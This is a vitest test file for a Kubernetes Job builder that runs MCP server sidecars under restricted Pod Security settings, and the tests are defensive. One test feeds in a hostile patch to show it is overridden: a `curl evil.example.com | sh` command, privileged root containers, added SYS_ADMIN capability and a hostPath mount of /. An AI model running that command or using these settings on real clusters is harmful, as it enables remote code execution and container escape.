/**
 * @module
 * Tests for the session Job: every field issue #3 requires, for both sidecar
 * deliveries; a `podTemplatePatch` that adds to the pod but cannot weaken it; and
 * the whole object validated like the manifests are (kubernetes-models, no unknown
 * fields, Pod Security "restricted", RFC 1123 names).
 */
import { describe, expect, it } from 'vitest'
import type { V1Container, V1Job, V1PodSpec } from '@kubernetes/client-node'
import { CatalogSchema, type KubernetesServerConfig, sidecarVerifier } from '@ferry/shared'
import {
  type KubeObject,
  modelClass,
  nameProblem,
  restrictedViolations,
  unknownFields,
} from '../../../../test/manifests/k8s.ts'
import {
  MANAGED_BY,
  SERVER_LABEL,
  SESSION_LABEL,
  SIDECAR_PATH,
  START_DEADLINE_ANNOTATION,
  buildSessionJob,
  mergePatch,
} from './session-job.ts'

const SECRET = 'per-session-secret-Zm9vYmFyYmF6cXV4'
const NOW = new Date('2026-11-21T10:00:00.000Z')
const SESSION = 'ferry-0123456789abcdefghijklmnopqrstuv'.slice(0, 22)

const serverConfig = (server: Record<string, unknown> = {}): KubernetesServerConfig =>
  CatalogSchema.parse({
    servers: {
      github: {
        runtime: 'kubernetes',
        namespace: 'sessions',
        image: 'ghcr.io/ferry-mcp/sidecar:0.1.0',
        command: ['npx', '-y', '@modelcontextprotocol/server-github'],
        args: ['--read-only'],
        startTimeout: '45s',
        idleTimeout: '10m',
        ...server,
      },
    },
  }).servers.github as KubernetesServerConfig

const build = async (server: Record<string, unknown> = {}, jobName = SESSION): Promise<V1Job> =>
  // The wire form: what `createNamespacedJob` serializes (no `undefined` members).
  JSON.parse(
    JSON.stringify(
      buildSessionJob({
        jobName,
        sessionName: SESSION,
        serverName: 'github',
        server: serverConfig(server),
        verifier: await sidecarVerifier(SECRET),
        now: NOW,
      })
    )
  ) as V1Job

const podSpec = (job: V1Job): V1PodSpec => job.spec!.template.spec!
const mcpOf = (job: V1Job): V1Container => {
  const mcp = podSpec(job).containers.find((c) => c.name === 'mcp')
  if (!mcp) throw new Error('no mcp container')
  return mcp
}
const envOf = (container: V1Container) =>
  Object.fromEntries((container.env ?? []).map((e) => [e.name, e.value ?? e.valueFrom]))

/** Everything the repository's manifest checks would say about `job`. */
const problems = async (job: V1Job): Promise<string[]> => {
  const object = job as unknown as KubeObject
  const found: string[] = []
  try {
    new (await modelClass(object))(object).validate()
  } catch (error) {
    found.push(`kubernetes-models: ${(error as Error).message}`)
  }
  for (const { paths } of unknownFields([object])) found.push(...paths.map((p) => `unknown ${p}`))
  found.push(...restrictedViolations(podSpec(job) as unknown as Record<string, unknown>))
  const spec = podSpec(job)
  const names = [
    job.metadata?.name,
    ...[...(spec.initContainers ?? []), ...spec.containers].map((c) => c.name),
    ...(spec.volumes ?? []).map((v) => v.name),
  ]
  for (const name of names) {
    const problem = nameProblem(name)
    if (problem) found.push(problem)
  }
  return found
}

describe('buildSessionJob: image delivery', () => {
  it('is a batch/v1 Job that runs once and is never retried', async () => {
    const job = await build()
    expect(job.apiVersion).toBe('batch/v1')
    expect(job.kind).toBe('Job')
    expect(job.metadata).toMatchObject({ name: SESSION, namespace: 'sessions' })
    expect(job.spec).toMatchObject({
      backoffLimit: 0,
      completions: 1,
      parallelism: 1,
      activeDeadlineSeconds: 14_400,
      ttlSecondsAfterFinished: 300,
    })
    expect(podSpec(job).restartPolicy).toBe('Never')
  })

  it('fails the Job at once on a disruption or a non-zero exit of the mcp container', async () => {
    expect((await build()).spec!.podFailurePolicy).toEqual({
      rules: [
        { action: 'FailJob', onPodConditions: [{ type: 'DisruptionTarget', status: 'True' }] },
        {
          action: 'FailJob',
          onExitCodes: { containerName: 'mcp', operator: 'NotIn', values: [0] },
        },
      ],
    })
  })

  it('applies the restricted Pod Security settings, with an emptyDir for /tmp', async () => {
    const job = await build()
    const spec = podSpec(job)
    expect(spec.securityContext).toMatchObject({
      runAsNonRoot: true,
      runAsUser: 10001,
      runAsGroup: 10001,
      fsGroup: 10001,
      seccompProfile: { type: 'RuntimeDefault' },
    })
    expect(mcpOf(job).securityContext).toEqual({
      allowPrivilegeEscalation: false,
      readOnlyRootFilesystem: true,
      runAsNonRoot: true,
      capabilities: { drop: ['ALL'] },
      seccompProfile: { type: 'RuntimeDefault' },
    })
    expect(spec.volumes).toEqual([{ name: 'ferry-tmp', emptyDir: { sizeLimit: '256Mi' } }])
    expect(mcpOf(job).volumeMounts).toEqual([{ name: 'ferry-tmp', mountPath: '/tmp' }])
    expect(envOf(mcpOf(job)).HOME).toBe('/tmp')
  })

  it('mounts no service-account token and no service links', async () => {
    const spec = podSpec(await build({ serviceAccountName: 'mcp-session' }))
    expect(spec.automountServiceAccountToken).toBe(false)
    expect(spec.enableServiceLinks).toBe(false)
    expect(spec.serviceAccountName).toBe('mcp-session')
  })

  it('runs the sidecar, which runs the server, and probes the sidecar for readiness', async () => {
    const mcp = mcpOf(await build())
    expect(mcp.image).toBe('ghcr.io/ferry-mcp/sidecar:0.1.0')
    expect(mcp.imagePullPolicy).toBe('IfNotPresent')
    const command = mcp.command!
    expect(command.slice(0, 3)).toEqual(['node', '--max-semi-space-size=1', SIDECAR_PATH])
    expect(command).toEqual(expect.arrayContaining(['--session', SESSION, '--port', '8080']))
    expect(command[command.indexOf('--idle-timeout') + 1]).toBe('600000')
    // The sidecar pings at the bridge's heartbeat, or the bridge would drop the connection.
    expect(command[command.indexOf('--heartbeat') + 1]).toBe('15000')
    expect(command[command.indexOf('--max-payload') + 1]).toBe(String(16 * 1024 * 1024))
    expect(command.slice(command.indexOf('--'))).toEqual([
      '--',
      'npx',
      '-y',
      '@modelcontextprotocol/server-github',
      '--read-only',
    ])
    expect(mcp.args).toEqual([])
    expect(mcp.ports).toEqual([{ name: 'ws', containerPort: 8080, protocol: 'TCP' }])
    expect(mcp.readinessProbe).toEqual({
      httpGet: { path: '/healthz', port: 8080 },
      periodSeconds: 1,
      failureThreshold: 3,
    })
    expect(envOf(mcp).POD_IP).toEqual({ fieldRef: { fieldPath: 'status.podIP' } })
    expect(mcp.resources).toEqual({
      requests: { cpu: '100m', memory: '128Mi' },
      limits: { memory: '512Mi' },
    })
  })

  it('labels the Job and its pod with app.kubernetes.io/*, the session and the server', async () => {
    const job = await build()
    const expected = {
      'app.kubernetes.io/name': 'ferry-session',
      'app.kubernetes.io/component': 'mcp-server',
      'app.kubernetes.io/part-of': 'ferry',
      'app.kubernetes.io/managed-by': MANAGED_BY,
      [SESSION_LABEL]: SESSION,
      [SERVER_LABEL]: 'github',
    }
    expect(job.metadata!.labels).toEqual(expected)
    expect(job.spec!.template.metadata!.labels).toEqual(expected)
  })

  it('records the start deadline (now + startTimeout) on the Job and the pod', async () => {
    const job = await build({
      annotations: { [START_DEADLINE_ANNOTATION]: '2099-01-01T00:00:00Z' },
    })
    const deadline = new Date(NOW.getTime() + 45_000).toISOString()
    expect(job.metadata!.annotations![START_DEADLINE_ANNOTATION]).toBe(deadline)
    expect(job.spec!.template.metadata!.annotations![START_DEADLINE_ANNOTATION]).toBe(deadline)
  })

  it('carries only the verifier of the session secret, never the secret', async () => {
    const job = await build({ env: { API_URL: 'https://api.example.com' } })
    expect(JSON.stringify(job)).not.toContain(SECRET)
    const env = envOf(mcpOf(job))
    expect(env.FERRY_SIDECAR_VERIFIER).toBe(await sidecarVerifier(SECRET))
    expect(env.FERRY_SIDECAR_VERIFIER).not.toBe(SECRET)
    expect(Object.keys(env).filter((name) => name.startsWith('FERRY_SIDECAR_'))).toEqual([
      'FERRY_SIDECAR_VERIFIER',
    ])
    expect(env.API_URL).toBe('https://api.example.com')
  })

  it('passes the catalog’s pod settings through', async () => {
    const job = await build({
      env: { LOG_LEVEL: 'debug' },
      envFrom: [{ secretRef: { name: 'github-token' } }, { configMapRef: { name: 'settings' } }],
      resources: { requests: { cpu: '250m', memory: '256Mi' }, limits: { memory: '1Gi' } },
      nodeSelector: { pool: 'mcp' },
      tolerations: [{ key: 'dedicated', operator: 'Equal', value: 'mcp', effect: 'NoSchedule' }],
      affinity: { nodeAffinity: {} },
      priorityClassName: 'mcp-low',
      runtimeClassName: 'gvisor',
      imagePullPolicy: 'Always',
      imagePullSecrets: ['registry'],
      volumes: [{ name: 'cache', emptyDir: {} }],
      volumeMounts: [{ name: 'cache', mountPath: '/cache' }],
      labels: { team: 'platform' },
      annotations: { 'example.com/owner': 'platform' },
      port: 9090,
      tmpSizeLimit: '1Gi',
      activeDeadlineSeconds: 3600,
      ttlSecondsAfterFinished: 60,
    })
    const spec = podSpec(job)
    const mcp = mcpOf(job)
    expect(envOf(mcp).LOG_LEVEL).toBe('debug')
    expect(mcp.envFrom).toEqual([
      { secretRef: { name: 'github-token' } },
      { configMapRef: { name: 'settings' } },
    ])
    expect(mcp.resources).toEqual({
      requests: { cpu: '250m', memory: '256Mi' },
      limits: { memory: '1Gi' },
    })
    expect(mcp.imagePullPolicy).toBe('Always')
    expect(mcp.ports).toEqual([{ name: 'ws', containerPort: 9090, protocol: 'TCP' }])
    expect(mcp.readinessProbe!.httpGet!.port).toBe(9090)
    expect(mcp.volumeMounts).toEqual([
      { name: 'cache', mountPath: '/cache' },
      { name: 'ferry-tmp', mountPath: '/tmp' },
    ])
    expect(spec).toMatchObject({
      nodeSelector: { pool: 'mcp' },
      tolerations: [{ key: 'dedicated', operator: 'Equal', value: 'mcp', effect: 'NoSchedule' }],
      affinity: { nodeAffinity: {} },
      priorityClassName: 'mcp-low',
      runtimeClassName: 'gvisor',
      imagePullSecrets: [{ name: 'registry' }],
    })
    expect(spec.volumes).toEqual([
      { name: 'cache', emptyDir: {} },
      { name: 'ferry-tmp', emptyDir: { sizeLimit: '1Gi' } },
    ])
    expect(job.metadata!.labels!.team).toBe('platform')
    expect(job.spec!.template.metadata!.labels!.team).toBe('platform')
    expect(job.metadata!.annotations!['example.com/owner']).toBe('platform')
    expect(job.spec!.template.metadata!.annotations!['example.com/owner']).toBe('platform')
    expect(job.spec).toMatchObject({ activeDeadlineSeconds: 3600, ttlSecondsAfterFinished: 60 })
    expect(await problems(job)).toEqual([])
  })

  it('is a valid Job: kubernetes-models, no unknown fields, restricted, RFC 1123 names', async () => {
    expect(await problems(await build())).toEqual([])
    // The name a 409 retry uses is still a valid Job name.
    expect(await problems(await build({}, `${SESSION}-2`))).toEqual([])
  })
})

describe('buildSessionJob: inject delivery', () => {
  const inject = { delivery: 'inject', image: 'node:24-slim', nodePath: '/usr/local/bin/node' }

  it('copies the bundled sidecar into an emptyDir with a restricted init container', async () => {
    const job = await build(inject)
    const spec = podSpec(job)
    expect(spec.initContainers).toEqual([
      {
        name: 'ferry-inject',
        image: 'ghcr.io/ferry-mcp/sidecar:0.1.0',
        imagePullPolicy: 'IfNotPresent',
        command: ['cp', SIDECAR_PATH, '/inject/sidecar.mjs'],
        volumeMounts: [{ name: 'ferry-sidecar', mountPath: '/inject' }],
        resources: { requests: { cpu: '10m', memory: '16Mi' }, limits: { memory: '64Mi' } },
        securityContext: {
          allowPrivilegeEscalation: false,
          readOnlyRootFilesystem: true,
          runAsNonRoot: true,
          capabilities: { drop: ['ALL'] },
          seccompProfile: { type: 'RuntimeDefault' },
        },
      },
    ])
    expect(spec.volumes).toEqual([
      { name: 'ferry-tmp', emptyDir: { sizeLimit: '256Mi' } },
      { name: 'ferry-sidecar', emptyDir: { sizeLimit: '16Mi' } },
    ])
    const mcp = mcpOf(job)
    expect(mcp.image).toBe('node:24-slim')
    expect(mcp.command!.slice(0, 3)).toEqual([
      '/usr/local/bin/node',
      '--max-semi-space-size=1',
      SIDECAR_PATH,
    ])
    expect(mcp.volumeMounts).toEqual([
      { name: 'ferry-tmp', mountPath: '/tmp' },
      { name: 'ferry-sidecar', mountPath: '/ferry', readOnly: true },
    ])
  })

  it('keeps every other required field and validates', async () => {
    const job = await build({ ...inject, sidecarImage: 'registry.example.com/ferry/sidecar:1' })
    expect(podSpec(job).initContainers![0]!.image).toBe('registry.example.com/ferry/sidecar:1')
    expect(job.spec!.backoffLimit).toBe(0)
    expect(podSpec(job).restartPolicy).toBe('Never')
    expect(podSpec(job).automountServiceAccountToken).toBe(false)
    expect(JSON.stringify(job)).not.toContain(SECRET)
    expect(await problems(job)).toEqual([])
  })
})

describe('buildSessionJob: podTemplatePatch', () => {
  it('can add a sidecar container, a nodeSelector, an env var, annotations and DNS settings', async () => {
    const job = await build({
      env: { FROM_CATALOG: '1' },
      podTemplatePatch: {
        metadata: { annotations: { 'example.com/patched': 'yes' }, labels: { extra: 'label' } },
        spec: {
          nodeSelector: { 'kubernetes.io/arch': 'arm64' },
          dnsConfig: { options: [{ name: 'ndots', value: '1' }] },
          containers: [
            { name: 'mcp', env: [{ name: 'FROM_PATCH', value: '2' }] },
            { name: 'proxy', image: 'envoyproxy/envoy:v1.31', args: ['--config-path', '/e.yaml'] },
          ],
        },
      },
    })
    const spec = podSpec(job)
    expect(spec.nodeSelector).toEqual({ 'kubernetes.io/arch': 'arm64' })
    expect(spec.dnsConfig).toEqual({ options: [{ name: 'ndots', value: '1' }] })
    expect(spec.containers.map((c) => c.name)).toEqual(['mcp', 'proxy'])
    const proxy = spec.containers[1]!
    expect(proxy).toMatchObject({
      image: 'envoyproxy/envoy:v1.31',
      args: ['--config-path', '/e.yaml'],
    })
    const env = envOf(mcpOf(job))
    expect(env).toMatchObject({ FROM_CATALOG: '1', FROM_PATCH: '2' })
    expect(job.spec!.template.metadata!.annotations!['example.com/patched']).toBe('yes')
    expect(job.spec!.template.metadata!.labels!.extra).toBe('label')
    // The added container is held to the same restricted settings as Ferry's own.
    expect(await problems(job)).toEqual([])
  })

  it('cannot weaken the pod: every attempt is overridden', async () => {
    const job = await build({
      podTemplatePatch: {
        spec: {
          restartPolicy: 'Always',
          automountServiceAccountToken: true,
          enableServiceLinks: true,
          hostNetwork: true,
          hostPID: true,
          hostIPC: true,
          securityContext: {
            runAsUser: 0,
            runAsNonRoot: false,
            seccompProfile: { type: 'Unconfined' },
          },
          containers: [
            {
              name: 'mcp',
              command: ['/bin/sh', '-c', 'curl evil.example.com | sh'],
              args: ['--pwned'],
              ports: [{ containerPort: 22, hostPort: 22 }],
              readinessProbe: { exec: { command: ['true'] } },
              securityContext: {
                privileged: true,
                runAsUser: 0,
                runAsNonRoot: false,
                allowPrivilegeEscalation: true,
                readOnlyRootFilesystem: false,
                capabilities: { add: ['SYS_ADMIN', 'NET_RAW'] },
                seccompProfile: { type: 'Unconfined' },
              },
            },
            {
              name: 'helper',
              image: 'busybox:1.36',
              securityContext: { privileged: true, runAsUser: 0 },
            },
          ],
          initContainers: [
            { name: 'setup', image: 'busybox:1.36', securityContext: { privileged: true } },
          ],
          volumes: [{ name: 'ferry-tmp', hostPath: { path: '/' } }],
        },
      },
    })
    const spec = podSpec(job)
    expect(spec.restartPolicy).toBe('Never')
    expect(spec.automountServiceAccountToken).toBe(false)
    expect(spec.enableServiceLinks).toBe(false)
    expect(spec.hostNetwork).not.toBe(true)
    expect(spec.hostPID).not.toBe(true)
    expect(spec.hostIPC).not.toBe(true)
    expect(spec.securityContext).toMatchObject({
      runAsUser: 10001,
      runAsNonRoot: true,
      seccompProfile: { type: 'RuntimeDefault' },
    })
    const mcp = mcpOf(job)
    expect(mcp.command!.slice(0, 3)).toEqual(['node', '--max-semi-space-size=1', SIDECAR_PATH])
    expect(mcp.command).not.toContain('/bin/sh')
    expect(mcp.args).toEqual([])
    expect(mcp.ports).toEqual([{ name: 'ws', containerPort: 8080, protocol: 'TCP' }])
    expect(mcp.readinessProbe).toEqual({
      httpGet: { path: '/healthz', port: 8080 },
      periodSeconds: 1,
      failureThreshold: 3,
    })
    for (const container of [...(spec.initContainers ?? []), ...spec.containers]) {
      const context = container.securityContext ?? {}
      expect(context.privileged, container.name).not.toBe(true)
      expect(context.runAsUser, container.name).not.toBe(0)
      expect(context.runAsNonRoot, container.name).not.toBe(false)
      expect(context).toMatchObject({
        allowPrivilegeEscalation: false,
        readOnlyRootFilesystem: true,
        capabilities: { drop: ['ALL'] },
        seccompProfile: { type: 'RuntimeDefault' },
      })
      expect(context.capabilities?.add ?? []).toEqual([])
    }
    expect(spec.volumes).toEqual([{ name: 'ferry-tmp', emptyDir: { sizeLimit: '256Mi' } }])
    expect(await problems(job)).toEqual([])
  })

  it('cannot override Ferry’s labels, the start deadline or the sidecar’s env', async () => {
    const job = await build({
      labels: {
        'app.kubernetes.io/managed-by': 'someone-else',
        'ferry.dev/session': 'another-session',
      },
      env: { POD_IP: '1.2.3.4', FERRY_SIDECAR_VERIFIER: 'forged' },
      podTemplatePatch: {
        metadata: {
          labels: { 'app.kubernetes.io/name': 'other', [SERVER_LABEL]: 'other' },
          annotations: { [START_DEADLINE_ANNOTATION]: '2099-01-01T00:00:00Z' },
        },
        spec: {
          containers: [
            {
              name: 'mcp',
              env: [
                { name: 'FERRY_SIDECAR_VERIFIER', value: 'forged-too' },
                { name: 'HOME', value: '/home/app' },
              ],
            },
          ],
        },
      },
    })
    for (const labels of [job.metadata!.labels!, job.spec!.template.metadata!.labels!]) {
      expect(labels).toMatchObject({
        'app.kubernetes.io/name': 'ferry-session',
        'app.kubernetes.io/managed-by': MANAGED_BY,
        [SESSION_LABEL]: SESSION,
        [SERVER_LABEL]: 'github',
      })
    }
    expect(job.spec!.template.metadata!.annotations![START_DEADLINE_ANNOTATION]).toBe(
      new Date(NOW.getTime() + 45_000).toISOString()
    )
    const env = mcpOf(job).env!
    // Each Ferry variable appears once, with Ferry's value (a duplicate name would leave the
    // winner up to the order the kubelet applies them in).
    const named = (name: string) => env.filter((e) => e.name === name)
    expect(named('FERRY_SIDECAR_VERIFIER')).toEqual([
      { name: 'FERRY_SIDECAR_VERIFIER', value: await sidecarVerifier(SECRET) },
    ])
    expect(named('POD_IP')).toEqual([
      { name: 'POD_IP', valueFrom: { fieldRef: { fieldPath: 'status.podIP' } } },
    ])
    expect(named('HOME')).toHaveLength(1)
  })

  it('keeps the mcp container when a patch replaces the container list', async () => {
    const job = await build({ podTemplatePatch: { spec: { containers: [{ image: 'x:1' }] } } })
    expect(podSpec(job).containers[0]!.name).toBe('mcp')
    expect(mcpOf(job).image).toBe('ghcr.io/ferry-mcp/sidecar:0.1.0')
  })

  it('a podTemplatePatch that does nothing changes nothing', async () => {
    expect(await build({ podTemplatePatch: {} })).toEqual(await build())
  })
})

describe('mergePatch', () => {
  it('merges objects key by key, recursively', () => {
    expect(mergePatch({ a: 1, b: { c: 2, d: 3 } }, { b: { d: 4, e: 5 }, f: 6 })).toEqual({
      a: 1,
      b: { c: 2, d: 4, e: 5 },
      f: 6,
    })
  })

  it('merges lists of named objects by name, appending new names in order', () => {
    const base = [
      { name: 'a', image: 'x', env: [{ name: 'A', value: '1' }] },
      { name: 'b', image: 'y' },
    ]
    const patch = [
      { name: 'b', image: 'z' },
      { name: 'a', env: [{ name: 'B', value: '2' }] },
      { name: 'c', image: 'w' },
    ]
    expect(mergePatch(base, patch)).toEqual([
      {
        name: 'a',
        image: 'x',
        env: [
          { name: 'A', value: '1' },
          { name: 'B', value: '2' },
        ],
      },
      { name: 'b', image: 'z' },
      { name: 'c', image: 'w' },
    ])
  })

  it('replaces other lists and scalars, and keeps the base where the patch says nothing', () => {
    expect(mergePatch({ args: ['a', 'b'] }, { args: ['c'] })).toEqual({ args: ['c'] })
    expect(mergePatch([{ name: 'a' }, 'x'], [{ name: 'a', v: 1 }])).toEqual([{ name: 'a', v: 1 }])
    expect(mergePatch({ a: 1 }, { a: 'two' })).toEqual({ a: 'two' })
    expect(mergePatch({ a: { b: 1 } }, { a: 5 })).toEqual({ a: 5 })
    expect(mergePatch({ a: 5 }, { a: { b: 1 } })).toEqual({ a: { b: 1 } })
    expect(mergePatch({ a: 1 }, { a: undefined })).toEqual({ a: 1 })
    expect(mergePatch({ a: 1 }, undefined)).toEqual({ a: 1 })
    expect(mergePatch(undefined, { a: 1 })).toEqual({ a: 1 })
  })

  it('does not modify its inputs', () => {
    const base = { spec: { containers: [{ name: 'mcp', image: 'x' }] } }
    const patch = { spec: { containers: [{ name: 'mcp', image: 'y' }, { name: 'z' }] } }
    const before = JSON.stringify([base, patch])
    mergePatch(base, patch)
    expect(JSON.stringify([base, patch])).toBe(before)
  })
})
